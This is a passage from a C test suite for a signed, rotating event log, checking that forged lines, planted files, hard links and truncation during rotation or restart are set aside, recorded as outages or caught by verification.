	EVP_PKEY_free(k);
}

/*
 * While the writer is stopped, its rotated files replaced by files whose
 * first lines have falling seqs just under its close, and its current
 * file's first line by one of seq close - 1: they do not match what its
 * anchor lists (files=), so deleting them past keep does not move the
 * anchor's first on, which stays 1.
 */
static void
test_rotated_files_restart(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 3 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	char			 rot[4][160], *v[1];
	struct stat		 st, now;
	EVP_PKEY		*k;
	size_t			 i;
	int			 n;

	k = rotating_key(t, rot, 4);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[2]);
	assert_int_equal(access(rot[3], F_OK), -1);
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.first, 1);
	assert_true(a.have_files);
	assert_int_equal(a.files, 3);
	lines_read(&l, t->path);
	free(l.v[0]);
	l.v[0] = forged(a.seq - 1, Z64);
	lines_write(&l, t->path, 0, l.n);
	lines_free(&l);
	for (i = 0; i < 3; i++) {
		v[0] = forged(a.seq - 2 - (long long)i, Z64);
		write_lines(rot[i], v, 1);
		free(v[0]);
	}
	assert_int_equal(stat(t->path, &st), 0);
	log = rotating_open(t, &lo, &ck);
	/* One rotation: the oldest file, past keep, deleted. */
	for (n = 0; n < 200 && stat(t->path, &now) == 0 &&
	    now.st_ino == st.st_ino; n++)
		append_n(log, n, 1);
	assert_true(n < 200);
	assert_int_equal(access(rot[3], F_OK), -1);
	rotating_close(t, log, ck, &a);
	if (a.first != 1)
		fail_msg("the anchor says first=%lld", a.first);
	EVP_PKEY_free(k);
}

/*
 * While the writer is stopped after its close, its files shifted up one
 * name (name -> name.1, name.i -> name.(i+1)) and a new current file
 * planted: a line of seq 10^12, more than the first tail window, then a
 * copy of the real current file ending with the close. The anchor lists
 * the real files (files=), but a shift after a close is no rotation of
 * the writer's: none of the files there is taken as its own, and its
 * first never moves to a seq it did not write as a file's first line,
 * also when it deletes them past keep; deleting the rotated files then
 * fails verify --key.
 */
static void
test_rotated_files_shifted(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 4 };
	struct checkpoint_anchor a, b;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	char			 rot[8][160], *w[MAXLINES + 100], xs[101];
	const char		*paths[2];
	EVP_PKEY		*k;
	size_t			 i, n;

	k = rotating_key(t, rot, 8);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[1]);
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.first, 1);
	assert_int_equal(a.files, 2);
	assert_int_equal(rename(rot[1], rot[2]), 0);
	assert_int_equal(rename(rot[0], rot[1]), 0);
	assert_int_equal(rename(t->path, rot[0]), 0);
	lines_read(&l, rot[0]);
	memset(xs, 'x', 100);
	xs[100] = '\0';
	n = 0;
	w[n++] = forged(1000000000000LL, Z64);
	for (i = 0; i < 90; i++)
		w[n++] = xs;
	for (i = 0; i < l.n; i++)
		w[n++] = l.v[i];
	write_lines(t->path, w, n);
	free(w[0]);
	lines_free(&l);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 100);
	rotating_close(t, log, ck, &b);
	/* The files kept are the writer's: first is not past theirs. */
	for (i = 0; i <= 8; i++) {
		if (access(i < 8 ? rot[i] : t->path, F_OK) == -1)
			continue;
		lines_read(&l, i < 8 ? rot[i] : t->path);
		if (!is_checkpoint(l.v[0]) || b.first > seq_of(&l, 0))
			fail_msg("the anchor says first=%lld; %s starts at "
			    "seq %lld", b.first, i < 8 ? rot[i] : t->path,
			    seq_of(&l, 0));
		lines_free(&l);
	}
	for (i = 1; i < 8; i++)
		(void)unlink(rot[i]);
	paths[0] = rot[0];
	paths[1] = t->path;
	assert_int_equal(verify_with(paths, 2, k, &b, &v),
	    CKVERIFY_UNTRUSTED);
	EVP_PKEY_free(k);
}

/*
 * rename(2) of plant_from plants plant_line at that name right after (a
 * FIFO when plant_line is NULL).
 */
static const char	*plant_from;
static const char	*plant_line;

int
rename(const char *from, const char *to)
{
	static int	(*real)(const char *, const char *);
	FILE		*f;
	int		 rc;

	if (real == NULL)
		*(void **)&real = dlsym(RTLD_NEXT, "rename");
	trace_rename(from);
	rc = real(from, to);
	if (rc == 0 && plant_from != NULL && strcmp(from, plant_from) == 0) {
		plant_from = NULL;
		if (plant_line == NULL)
			(void)mkfifo(from, 0666);
		else if ((f = fopen(from, "w")) != NULL) {
			fprintf(f, "%s\n", plant_line);
			fclose(f);
		}
	}
	return rc;
}

/* Run f(arg) with stderr in a file; what it wrote (caller frees). */
static char *
stderr_of(void (*f)(void *), void *arg)
{
	char	 path[] = "/tmp/sg-ckpt-err-" UTIL_MKTEMP_SUFFIX, *s;
	FILE	*r;
	long	 n;
	int	 fd, saved;

	assert_true((fd = mkstemp(path)) != -1);
	fflush(stderr);
	saved = dup(2);
	assert_int_equal(dup2(fd, 2), 2);
	f(arg);
	fflush(stderr);
	assert_int_equal(dup2(saved, 2), 2);
	close(saved);
	close(fd);
	assert_non_null(r = fopen(path, "rb"));
	fseek(r, 0, SEEK_END);
	n = ftell(r);
	rewind(r);
	assert_non_null(s = calloc(1, (size_t)n + 1));
	assert_int_equal(fread(s, 1, (size_t)n, r), (size_t)n);
	fclose(r);
	unlink(path);
	return s;
}

/* For stderr_of(): one event at a time until rot (char *) exists. */
static struct eventlog	*racing_log;

static void
racing_append(void *rot)
{
	append_until(racing_log, rot);
}

/*
 * A file put at the log's name between the writer's rename of its file
 * to name.1 and its making a new one, starting with a line of seq
 * 10^12: the writer does not take it for its file (it made none of it).
 * It moves it aside, says so on stderr and writes in a file it made,
 * which starts with its rotate checkpoint; its first never takes that
 * line's seq, also after it deleted its files past keep.
 */
static void
test_rotation_name_taken(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 2 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	struct dirent		*de;
	DIR			*d;
	char			 rot[3][160], *line, *err, p[512];
	struct stat		 st;
	EVP_PKEY		*k;
	size_t			 i;
	int			 aside = 0;

	k = rotating_key(t, rot, 3);
	log = rotating_open(t, &lo, &ck);
	append_until(log, rot[0]);
	line = forged(1000000000000LL, Z64);
	plant_line = line;
	plant_from = t->path;
	racing_log = log;
	err = stderr_of(racing_append, rot[1]);
	plant_from = NULL;
	lines_read(&l, t->path);
	if (!is_checkpoint(l.v[0]))
		fail_msg("the current file starts with %.60s", l.v[0]);
	lines_free(&l);
	/* A FIFO there: moved aside too, nothing blocks or fails. */
	plant_line = NULL;
	plant_from = t->path;
	assert_int_equal(unlink(rot[1]), 0);
	append_until(log, rot[1]);
	plant_from = NULL;
	assert_true(eventlog_healthy(log));
	append_n(log, 0, 100);
	rotating_close(t, log, ck, &a);
	if (a.first >= 1000000000000LL)
		fail_msg("the anchor says first=%lld", a.first);
	for (i = 0; i < 2; i++) {
		lines_read(&l, rot[i]);
		assert_true(is_checkpoint(l.v[0]));
		lines_free(&l);
	}
	if (strstr(err, "did not create") == NULL)
		fail_msg("stderr: %s", err);
	free(err);
	assert_non_null(d = opendir(t->dir));
	while ((de = readdir(d)) != NULL) {
		if (strstr(de->d_name, ".foreign.") == NULL)
			continue;
		snprintf(p, sizeof(p), "%s/%s", t->dir, de->d_name);
		assert_int_equal(lstat(p, &st), 0);
		aside++;
		if (S_ISFIFO(st.st_mode))
			continue;
		lines_read(&l, p);
		assert_string_equal(l.v[0], line);
		lines_free(&l);
	}
	closedir(d);
	assert_int_equal(aside, 2);
	free(line);
	EVP_PKEY_free(k);
}

/* For stderr_of(): 10 events. */
static void
racing_append_n(void *log)
{
	append_n(log, 100, 10);
}

/* For stderr_of(): SIGUSR1's reopen. */
static void
reopen_log(void *log)
{
	assert_int_equal(eventlog_reopen(log), 0);
}

/*
 * SIGUSR1 after logrotate moved the file to name.1, with a file put at
 * the name meanwhile that starts with a line of seq 10^12: the writer
 * moves it aside (stderr says so) and writes in a file it made, which
 * starts with its rotate checkpoint; its first never takes that seq. A
 * SIGUSR1 with nothing moved keeps the writer's own file.
 */
static void
test_reopen_name_taken(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 3000, .keep = 2 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	struct stat		 st1, st2;
	char			 rot[3][160], *w[1], *err;
	EVP_PKEY		*k;
	size_t			 i;

	k = rotating_key(t, rot, 3);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 3);
	assert_int_equal(rename(t->path, rot[0]), 0);
	w[0] = forged(1000000000000LL, Z64);
	write_lines(t->path, w, 1);
	free(w[0]);
	err = stderr_of(reopen_log, log);
	append_n(log, 3, 1);
	lines_read(&l, t->path);
	if (!is_checkpoint(l.v[0]))
		fail_msg("the current file starts with %.60s", l.v[0]);
	lines_free(&l);
	if (strstr(err, "did not create") == NULL)
		fail_msg("stderr: %s", err);
	free(err);
	assert_int_equal(stat(t->path, &st1), 0);
	err = stderr_of(reopen_log, log);
	assert_null(strstr(err, "did not create"));
	free(err);
	append_n(log, 4, 1);
	assert_int_equal(stat(t->path, &st2), 0);
	assert_true(st1.st_ino == st2.st_ino && st2.st_size > st1.st_size);
	append_n(log, 5, 100);
	rotating_close(t, log, ck, &a);
	for (i = 0; i <= 2; i++) {
		if (access(i < 2 ? rot[i] : t->path, F_OK) == -1)
			continue;
		lines_read(&l, i < 2 ? rot[i] : t->path);
		if (!is_checkpoint(l.v[0]) || a.first > seq_of(&l, 0))
			fail_msg("the anchor says first=%lld; file %zu starts "
			    "at seq %lld", a.first, i, seq_of(&l, 0));
		lines_free(&l);
	}
	EVP_PKEY_free(k);
}

/* logrotate's step: name.(i) to name.(i+1) for i = n .. 1, name to name.1. */
static void
logrotate_step(struct tmp *t, char (*rot)[160], size_t n)
{
	size_t	i;

	for (i = n; i > 0; i--)
		assert_int_equal(rename(rot[i - 1], rot[i]), 0);
	assert_int_equal(rename(t->path, rot[0]), 0);
}

/*
 * logrotate's third step with the writer's rotated files held aside and
 * a name.1 planted meanwhile that starts with a line of seq 10^12, then
 * SIGUSR1 and everything put back: first never takes that seq (a note
 * the writer does not vouch for) and never passes the first seq of the
 * oldest file the writer made, so deleting its rotated files shows.
 */
static void
test_reopen_planted_first(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	char			 rot[4][160], hold[3][200], *w[1], *err;
	const char		*paths[4];
	struct ckverify		 v;
	long long		 oldest;
	EVP_PKEY		*k;
	size_t			 i;

	k = rotating_key(t, rot, 4);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 3);
	logrotate_step(t, rot, 0);
	reopen_log(log);
	append_n(log, 3, 3);
	logrotate_step(t, rot, 1);
	reopen_log(log);
	append_n(log, 6, 3);
	logrotate_step(t, rot, 2);
	for (i = 0; i < 3; i++) {
		snprintf(hold[i], sizeof(hold[i]), "%s/hold.%zu", t->dir, i);
		assert_int_equal(rename(rot[i], hold[i]), 0);
	}
	w[0] = forged(1000000000000LL, Z64);
	write_lines(rot[0], w, 1);
	free(w[0]);
	err = stderr_of(reopen_log, log);
	free(err);
	assert_int_equal(unlink(rot[0]), 0);
	for (i = 0; i < 3; i++)
		assert_int_equal(rename(hold[i], rot[i]), 0);
	append_n(log, 9, 3);
	lines_read(&l, rot[2]);
	oldest = seq_of(&l, 0);
	lines_free(&l);
	if (eventlog_first(log) < 1 || eventlog_first(log) > oldest ||
	    eventlog_first(log) > eventlog_seq(log))
		fail_msg("first=%lld; the writer's oldest file starts at seq "
		    "%lld, its last seq is %lld", eventlog_first(log), oldest,
		    eventlog_seq(log));
	rotating_close(t, log, ck, &a);
	if (a.first < 1 || a.first > oldest)
		fail_msg("the anchor says first=%lld; the writer's oldest "
		    "file starts at seq %lld", a.first, oldest);
	paths[0] = rot[2];
	paths[1] = rot[1];
	paths[2] = rot[0];
	paths[3] = t->path;
	assert_int_equal(verify_with(paths, 4, k, &a, &v), CKVERIFY_OK);
	/* NAME.3 and NAME.2 deleted: against the anchor that fails. */
	assert_int_not_equal(verify_with(paths + 2, 2, k, &a, &v),
	    CKVERIFY_OK);
	EVP_PKEY_free(k);
}

/*
 * A signed log (no size rotation) with 3 events, moved to name.1 as
 * logrotate does; the caller sends the reopen. *k: the public key.
 */
static struct eventlog *
logrotated_once(struct tmp *t, char (*rot)[160], struct checkpoint **ck,
    EVP_PKEY **k)
{
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct eventlog		*log;

	*k = rotating_key(t, rot, 1);
	log = rotating_open(t, &lo, ck);
	append_n(log, 0, 3);
	assert_int_equal(rename(t->path, rot[0]), 0);
	return log;
}

/*
 * SIGUSR1 after logrotate moved the file to name.1, with a file put at
 * the name and the names name.foreign.SEQ.0 .. 63 (SEQ the writer's last,
 * which a reader of name.1 knows) made ahead: the writer still moves the
 * file aside to a name nobody could take ahead of it, writes the next
 * events in a file it made and closes the log.
 */
static void
test_reopen_aside_names_taken(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	char			 rot[1][160], p[256], *w[1], *err;
	EVP_PKEY		*k;
	unsigned		 i;
	int			 rc;

	log = logrotated_once(t, rot, &ck, &k);
	for (i = 0; i < 64; i++) {
		snprintf(p, sizeof(p), "%s.foreign.%lld.%u", t->path,
		    eventlog_seq(log), i);
		w[0] = "";
		write_lines(p, w, 0);
	}
	w[0] = forged(1000000000000LL, Z64);
	write_lines(t->path, w, 1);
	free(w[0]);
	rc = eventlog_reopen(log);
	if (rc != 0)
		fail_msg("reopen: %s", eventlog_error(log));
	err = stderr_of(racing_append_n, log);
	if (!eventlog_healthy(log))
		fail_msg("the log is unavailable: %s", eventlog_error(log));
	lines_read(&l, t->path);
	if (l.n < 10 || !is_checkpoint(l.v[0]))
		fail_msg("the current file has %zu lines, starting with %.60s",
		    l.n, l.n > 0 ? l.v[0] : "");
	lines_free(&l);
	free(err);
	rotating_close(t, log, ck, &a);
	assert_true(a.seq > 10);
	EVP_PKEY_free(k);
}

/*
 * SIGUSR1's reopen, then n events appended with no room left to write
 * (RLIMIT_FSIZE 0: write(2) fails with EFBIG, SIGXFSZ ignored): each
 * fails (counted as lost). The reopen keeps the file it has, so no fd
 * shortage can fail it: a write that fails stands for the outage.
 */
static void
appends_fail(struct eventlog *log, int n)
{
	struct rlimit	 was, low;
	json_t		*f;
	void		(*xfsz)(int);
	int		 i, failed = 0;

	(void)eventlog_reopen(log);
	xfsz = signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
	low = was;
	low.rlim_cur = 0;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &low), 0);
	for (i = 0; i < n; i++) {
		f = json_pack("{s:s, s:s}", "event", "egress.blocked", "host",
		    "lost.evil.test");
		failed += eventlog_append(log, f) == -1;
		json_decref(f);
	}
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
	signal(SIGXFSZ, xfsz);
	assert_int_equal(failed, n);
}

/* The current file holds a log.outage line for 5 events (appends_fail). */
static void
assert_outage_of_5(struct tmp *t)
{
	struct lines	l;
	size_t		i;

	lines_read(&l, t->path);
	for (i = 0; i < l.n && strstr(l.v[i], "log.outage") == NULL; i++)
		continue;
	if (i == l.n || strstr(l.v[i], "\"lost\":5") == NULL ||
	    strstr(l.v[i], "\"since\":") == NULL ||
	    strstr(l.v[i], "\"cause\":\"cannot write") == NULL)
		fail_msg("no log.outage line for the 5 events (%zu lines, "
		    "the last %.200s)", l.n, l.n > 0 ? l.v[l.n - 1] : "");
	lines_free(&l);
}

/* name.1 and the current file verify against the anchor a; frees k. */
static void
verify_once_rotated(struct tmp *t, char (*rot)[160], EVP_PKEY *k,
    const struct checkpoint_anchor *a)
{
	struct ckverify	 v;
	const char	*paths[2];

	paths[0] = rot[0];
	paths[1] = t->path;
	assert_int_equal(verify_with(paths, 2, k, a, &v), CKVERIFY_OK);
	EVP_PKEY_free(k);
}

/*
 * Events that could not be written while the log was unavailable (here
 * no file descriptor left to open it with) leave a log.outage line once
 * it is back: how many, since when, and why.
 */
static void
test_log_outage_recorded(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			 rot[1][160];
	EVP_PKEY		*k;

	log = logrotated_once(t, rot, &ck, &k);
	appends_fail(log, 5);
	append_n(log, 3, 1);
	assert_outage_of_5(t);
	rotating_close(t, log, ck, &a);
	verify_once_rotated(t, rot, k, &a);
}

/*
 * SIGUSR1 after logrotate moved the file to name.1, with a hard link to
 * name.1 put at the name meanwhile: the same file as the writer's, but
 * rotated. The writer moves the link aside and writes the next events
 * in a file it makes, never into name.1.
 */
static void
test_reopen_hard_link(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	struct stat		 st1, st;
	char			 rot[1][160], *err;
	EVP_PKEY		*k;
	size_t			 before;

	log = logrotated_once(t, rot, &ck, &k);
	lines_read(&l, rot[0]);
	before = l.n;
	lines_free(&l);
	assert_int_equal(link(rot[0], t->path), 0);
	err = stderr_of(reopen_log, log);
	free(err);
	append_n(log, 3, 3);
	lines_read(&l, rot[0]);
	if (l.n != before)
		fail_msg("name.1 grew from %zu to %zu lines: the writer wrote "
		    "into its rotated file through the link", before, l.n);
	lines_free(&l);
	assert_int_equal(stat(rot[0], &st1), 0);
	assert_int_equal(stat(t->path, &st), 0);
	assert_true(st.st_ino != st1.st_ino);
	lines_read(&l, t->path);
	assert_true(l.n >= 4 && is_checkpoint(l.v[0]));
	lines_free(&l);
	rotating_close(t, log, ck, &a);
	verify_once_rotated(t, rot, k, &a);
}

/*
 * Events lost while the log was unavailable, then the writer closed
 * without writing anything more (a restart during the outage): its
 * anchor keeps the outage, and the writer that opens the log next with
 * that anchor writes the log.outage line first.
 */
static void
test_log_outage_restart(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			 rot[1][160];
	EVP_PKEY		*k;

	log = logrotated_once(t, rot, &ck, &k);
	appends_fail(log, 5);
	/* Stopped during the outage: nothing more written. */
	checkpoint_free(ck);
	eventlog_close(log);
	anchor_of(t, &a);
	if (a.lost < 5)
		fail_msg("the anchor keeps %llu lost events, not 5", a.lost);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 3, 1);
	assert_outage_of_5(t);
	rotating_close(t, log, ck, &a);
	assert_int_equal(a.lost, 0);
	verify_once_rotated(t, rot, k, &a);
}

/* Cut the current file after the line of seq (the writer's anchor). */
static void
cut_after_seq(struct tmp *t, long long seq)
{
	struct lines	l;
	size_t		n;

	lines_read(&l, t->path);
	for (n = 0; n < l.n && seq_of(&l, n) <= seq; n++)
		continue;
	lines_write(&l, t->path, 0, n);
	lines_free(&l);
}

/*
 * An outage, then its log.outage line written and a tick, then the
 * writer stops without a close (the log unavailable again) and the log
 * is cut back to the checkpoint its anchor names: the anchor keeps the
 * outage until a checkpoint after that line is anchored, so the cut
 * cannot take the outage with it.
 */
static void
test_log_outage_cut(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	struct ckverify		 v;
	char			 rot[1][160];
	const char		*paths[2];
	EVP_PKEY		*k;
	long long		 cut;
	size_t			 i;

	log = logrotated_once(t, rot, &ck, &k);
	appends_fail(log, 5);
	assert_int_equal(checkpoint_tick(ck), 0);
	anchor_of(t, &a);
	assert_true(a.lost >= 5);
	append_n(log, 10, 1);		/* log.outage, then the event */
	(void)checkpoint_tick(ck);
	anchor_of(t, &a);
	lines_read(&l, t->path);
	for (i = 0; i < l.n && strstr(l.v[i], "log.outage") == NULL; i++)
		continue;
	assert_true(i < l.n);
	if (a.lost < 5 && a.seq < seq_of(&l, i))
		fail_msg("the anchor (seq %lld) dropped the outage before a "
		    "checkpoint covers its log.outage line (seq %lld)", a.seq,
		    seq_of(&l, i));
	lines_free(&l);
	/* Stopped without a close; the log cut back to the anchor. */
	checkpoint_free(ck);
	eventlog_close(log);
	cut_after_seq(t, a.seq);
	cut = a.seq;
	log = rotating_open(t, &lo, &ck);
	append_n(log, 20, 1);
	assert_outage_of_5(t);
	rotating_close(t, log, ck, &a);
	/* verify notes the open right after the cut's checkpoint. */
	paths[0] = rot[0];
	paths[1] = t->path;
	assert_int_equal(verify_with(paths, 2, k, &a, &v), CKVERIFY_OK);
	assert_int_equal(v.stops, 1);
	assert_int_equal(v.stop_at, cut);
	EVP_PKEY_free(k);
}

static struct eventlog *restart_open_fails_every(struct tmp *,
		    const struct eventlog_opts *, unsigned long long, int,
		    struct checkpoint **);

/*
 * The log at t->path opened again by a writer whose open checkpoint
 * fails (no descriptor can be had while it is tried); its *ck.
 */
static struct eventlog *
restart_open_fails(struct tmp *t, const struct eventlog_opts *lo,
    struct checkpoint **ck)
{
	return restart_open_fails_every(t, lo, 100, 0, ck);
}

/* The same, signing every `every` events, after `before` events. */
static struct eventlog *
restart_open_fails_every(struct tmp *t, const struct eventlog_opts *lo,
    unsigned long long every, int before, struct checkpoint **ck)
{
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = every, .every_secs = 60 };
	struct eventlog		*log;
	struct rlimit		 was, low;
	char			*cause = NULL;

	log = eventlog_open(t->dir, NAME, lo, &cause);
	assert_non_null(log);
	*ck = checkpoint_new(log, &o, &cause);
	assert_non_null(*ck);
	append_n(log, 100, before);	/* a start's own lines, before it */
	assert_int_equal(getrlimit(RLIMIT_NOFILE, &was), 0);
	low = was;
	low.rlim_cur = 0;
	assert_int_equal(setrlimit(RLIMIT_NOFILE, &low), 0);
	(void)eventlog_reopen(log);	/* no line can be written */
	assert_int_equal(checkpoint_write(*ck, "open"), -1);
	assert_int_equal(setrlimit(RLIMIT_NOFILE, &was), 0);
	return log;
}

/*
 * A restart whose open checkpoint fails (the volume full, no room for its
 * line) and whose log was cut back to the anchor's checkpoint: the run
 * still signs an open before any other checkpoint (at its first tick, or
 * before its close), so verify notes that the writer stopped at the
 * anchored checkpoint (issue 20 ninth attack F1: the run's first
 * checkpoint was its close, and verify passed without a note).
 */
static void
test_open_due_until_written(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 rot[1][160];
	const char		*paths[1];
	EVP_PKEY		*k;
	long long		 cut;

	k = rotating_key(t, rot, 1);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 3);
	assert_int_equal(checkpoint_write(ck, "timer"), 0);
	anchor_of(t, &a);
	cut = a.seq;
	append_n(log, 3, 5);		/* the events to erase */
	checkpoint_free(ck);		/* stopped without a close */
	eventlog_close(log);
	cut_after_seq(t, cut);
	log = restart_open_fails(t, &lo, &ck);
	(void)checkpoint_tick(ck);	/* the next second, room again */
	append_n(log, 8, 5);
	rotating_close(t, log, ck, &a);
	paths[0] = t->path;
	assert_int_equal(verify_with(paths, 1, k, &a, &v), CKVERIFY_OK);
	if (v.stops != 1 || v.stop_at != cut)
		fail_msg("verify noted %zu stop(s), at seq %lld; want 1 at %lld",
		    v.stops, v.stop_at, cut);
	EVP_PKEY_free(k);
}

/*
 * A restarted writer whose open failed, then had room for its events
 * (not for the open line: a page's slack, in the attack), and stopped
 * without closing: its run cut from the log back to the last run's
 * close must not verify clean. The open goes before the run's first
 * event, and the anchor names it.
 */
static void
test_open_before_first_event(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	char			 rot[1][160];
	const char		*paths[1];
	EVP_PKEY		*k;
	enum ckverify_result	 rc;
	long long		 cut;

	k = rotating_key(t, rot, 1);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 3);
	rotating_close(t, log, ck, &a);
	cut = a.seq;
	log = restart_open_fails(t, &lo, &ck);
	append_n(log, 3, 5);		/* the run's events, before any tick */
	checkpoint_free(ck);		/* killed: no close */
	eventlog_close(log);
	cut_after_seq(t, cut);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 8, 3);
	rotating_close(t, log, ck, &a);
	paths[0] = t->path;
	rc = verify_with(paths, 1, k, &a, &v);
	if (rc == CKVERIFY_OK && v.stops == 0 && v.restarts == 0 &&
	    v.resumes == 0)
		fail_msg("a run cut back to the close at seq %lld verified "
		    "clean", cut);
	EVP_PKEY_free(k);
}

/*
 * Signing every event, a count checkpoint due when the open fails (an
 * event before the open attempt made it due): the open that takes its
 * place before the next event is anchored before that event is written
 * (issue 20 eleventh attack F2: the due line became the open, unanchored
 * until the next tick, and a crash then left an event after it that a
 * cut back to the last close hid).
 */
static void
test_open_anchored_before_event(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	char			 rot[1][160];
	EVP_PKEY		*k;
	size_t			 i, open_line = 0;

	k = rotating_key(t, rot, 1);
	log = rotating_open(t, &lo, &ck);
	append_n(log, 0, 3);
	rotating_close(t, log, ck, &a);
	log = restart_open_fails_every(t, &lo, 1, 1, &ck);
	append_n(log, 3, 1);		/* the run's event, before any tick */
	anchor_of(t, &a);
	lines_read(&l, t->path);
	for (i = 0; i < l.n; i++)
		if (strstr(l.v[i], "\"reason\":\"open\"") != NULL)
			open_line = i + 1;
	if (open_line == 0 || open_line == l.n ||
	    a.seq != (long long)open_line || strcmp(a.reason, "open") != 0)
		fail_msg("the anchor names seq %lld (%s); the run's open is "
		    "at line %zu of %zu", a.seq, a.reason, open_line, l.n);
	lines_free(&l);
	checkpoint_free(ck);
	eventlog_close(log);
	EVP_PKEY_free(k);
}

/*
 * While the open is due and cannot be written, an event is not written
 * either: it is counted lost, so the anchor and the next log.outage line
 * say so, and the open comes first once it can be written.
 */
static void
test_event_refused_while_open_due(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = 100, .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;
	const char		*since, *why;
	char			 tmp[192], inner[224], *cause = NULL;
	size_t			 i, open_at = 0, first_event = 0;

	assert_true(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause) >= 0);
	/* The anchor's next version cannot be made: no checkpoint either. */
	room_blocked(t, tmp, inner);
	log = eventlog_open(t->dir, NAME, &lo, &cause);
	assert_non_null(log);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	assert_int_equal(checkpoint_write(ck, "open"), -1);
	appends_refused(log, 4);
	assert_int_equal(eventlog_outage(log, &since, &why), 4);
	assert_int_equal(rmdir(inner), 0);
	assert_int_equal(rmdir(tmp), 0);
	(void)eventlog_reopen(log);
	assert_int_equal(checkpoint_tick(ck), 0);
	append_n(log, 0, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	for (i = 0; i < l.n; i++) {
		if (open_at == 0 && strstr(l.v[i], "\"reason\":\"open\"") != NULL)
			open_at = i + 1;
		if (first_event == 0 && strstr(l.v[i], "h.evil.test") != NULL)
			first_event = i + 1;
	}
	if (open_at == 0 || first_event == 0 || open_at > first_event)
		fail_msg("open at line %zu, first event at line %zu", open_at,
		    first_event);
	for (i = 0; i < l.n && strstr(l.v[i], "\"lost\":4") == NULL; i++)
		continue;
	if (i == l.n)
		fail_msg("no log.outage line for the 4 refused events");
	lines_free(&l);
}

/*
 * A writer with no anchor that could write no checkpoint yet (its open
 * failed: the log unavailable from the start) and stops during the
 * outage: its anchor carries the outage all the same (seq 0, no
 * checkpoint), and the next writer writes the log.outage line first.
 */
static void
test_log_outage_no_anchor(void **state)
{
	struct tmp		*t = *state;
	struct eventlog_opts	 lo = { .max_size = 1 << 20, .keep = 5 };
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = 100, .every_secs = 60 };
	struct checkpoint_anchor a;
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			 moved[200], pub[160], *cause = NULL;
	const char		*paths[1];
	struct ckverify		 v;
	EVP_PKEY		*k;

	assert_true(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause) >= 0);
	log = eventlog_open(t->dir, NAME, &lo, &cause);
	assert_non_null(log);
	ck = checkpoint_new(log, &o, &cause);
	assert_non_null(ck);
	snprintf(moved, sizeof(moved), "%s.moved", t->path);
	assert_int_equal(rename(t->path, moved), 0);
	appends_fail(log, 5);
	(void)checkpoint_tick(ck);
	checkpoint_free(ck);		/* no checkpoint was ever written */
	eventlog_close(log);
	assert_int_equal(unlink(moved), 0);
	anchor_of(t, &a);
	assert_int_equal(a.seq, 0);
